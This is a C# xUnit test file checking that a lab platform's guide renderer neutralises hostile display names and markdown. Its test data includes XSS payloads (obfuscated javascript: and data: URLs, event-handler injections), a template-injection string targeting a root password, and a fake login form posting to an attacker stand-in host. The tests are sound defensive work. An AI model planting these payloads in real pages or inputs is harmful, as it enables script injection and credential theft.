using AngleSharp.Html.Parser;
using LabOrchestrator.Guides;

namespace LabOrchestrator.Tests.Security;

/// <summary>
/// Issue 11, finding 8: variables are encoded for where they land before the page is sanitised, so a learner's display
/// name cannot become markup or a <c>javascript:</c> URL in the guide an instructor reads; forms are dropped.
/// </summary>
public sealed class GuideRendererSecurityTests
{
    public static TheoryData<string> HostileNames =>
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "\" onmouseover=\"alert(1)",
        "<img src=x onerror=alert(1)>",
        "{{ credentials.root.password }}",
    ];

    [Theory]
    [MemberData(nameof(HostileNames))]
    public void Render_DisplayNameInALinkUrl_CannotBecomeAScriptUrl(string name)
    {
        var html = Render("[profile]({{user.name}}) <a href=\"{{ user.name }}\">raw</a> <a href=\"https://x.org/?u={{user.name}}\">q</a>", name);

        AssertHarmless(html);
    }

    [Theory]
    [MemberData(nameof(HostileNames))]
    public void Render_DisplayNameInTextAndAttributes_StaysText(string name)
    {
        var html = Render("Hi {{user.name}} `{{user.name}}` <span title=\"{{user.name}}\">x</span> ![{{user.name}}](https://x.org/a.png)\n\n```bash run=linux\necho {{user.name}}\n```\n", name);

        AssertHarmless(html);
        Assert.DoesNotContain("secret-root", html);
    }

    [Fact]
    public void Render_ValueInText_IsShownAsWritten()
    {
        var html = Render("Hi {{user.name}}", "<b>Lea</b> & co");

        Assert.Contains("Hi &lt;b&gt;Lea&lt;/b&gt; &amp; co", html);
    }

    [Fact]
    public void Render_ValueInAUrl_IsPercentEncoded()
    {
        var html = Render("[open](http://{{user.name}}:8080/x)", "web host");

        Assert.Contains("href=\"http://web%20host:8080/x\"", html);
    }

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\"><input type=\"password\" name=\"p\"><button>Log in</button></form>")]
    [InlineData("<input type=\"password\">")]
    [InlineData("<select><option>a</option></select><textarea>x</textarea>")]
    [InlineData("<button formaction=\"https://evil.example\">Go</button>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x\">")]
    [InlineData("<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">")]
    public void Render_FormsAndEmbeddedContent_AreDropped(string markdown)
    {
        var html = Render(markdown, "Lea");

        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "<iframe", "<object", "<embed", "<base", "<meta", "evil.example" })
        {
            Assert.DoesNotContain(tag, html, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#106;&#97;vascript:alert(1)\">x</a>")]
    [InlineData("<a href=\" javascript:alert(1)\">x</a>")]
    [InlineData("![x](data:image/svg+xml;base64,PHN2Zz4=)")]
    [InlineData("<img src=\"data:text/html,x\">")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")]
    [InlineData("<video poster=\"javascript:alert(1)\" src=\"javascript:alert(1)\"></video>")]
    public void Render_ScriptAndDataUrls_AreDroppedWhateverTheirSpelling(string markdown)
    {
        AssertHarmless(Render(markdown, "Lea"));
    }

    /// <summary>Reads the HTML as a browser would: no script, no event handler, no form, and only http(s), mailto or relative URLs.</summary>
    internal static void AssertHarmless(string html)
    {
        var document = new HtmlParser().ParseDocument("<!DOCTYPE html><html><body>" + html + "</body></html>");
        var body = document.Body!;
        Assert.Empty(body.QuerySelectorAll("script, iframe, object, embed, form, input, button, textarea, select, base, meta"));
        foreach (var element in body.QuerySelectorAll("*"))
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"event handler in {element.OuterHtml}");
                if (attribute.Name is "href" or "src" or "poster" or "action" or "formaction" or "srcset" or "data")
                {
                    var scheme = SchemeOf(attribute.Value);
                    Assert.True(scheme is null or "http" or "https" or "mailto", $"{attribute.Name}=\"{attribute.Value}\" in {element.OuterHtml}");
                }
            }
        }
    }

    /// <summary>The URL's scheme as a browser finds it (control characters and spaces removed), or null for a relative URL.</summary>
    private static string? SchemeOf(string url)
    {
        var cleaned = new string(url.Where(c => c > ' ').ToArray());
        var colon = cleaned.IndexOf(':', StringComparison.Ordinal);
        var end = cleaned.IndexOfAny(['/', '?', '#']);
        return colon > 0 && (end < 0 || colon < end) ? cleaned[..colon].ToLowerInvariant() : null;
    }

    private static string Render(string markdown, string displayName)
    {
        var variables = new GuideVariables(new Dictionary<string, string>
        {
            ["user.name"] = displayName,
            ["credentials.root.password"] = "secret-root",
        });
        var page = new GuidePage { Name = "page", FileName = "page.md", Title = "page", Markdown = markdown };
        return GuideRenderer.Render(page, variables, "/api/sessions/s1/guide/media/");
    }
}
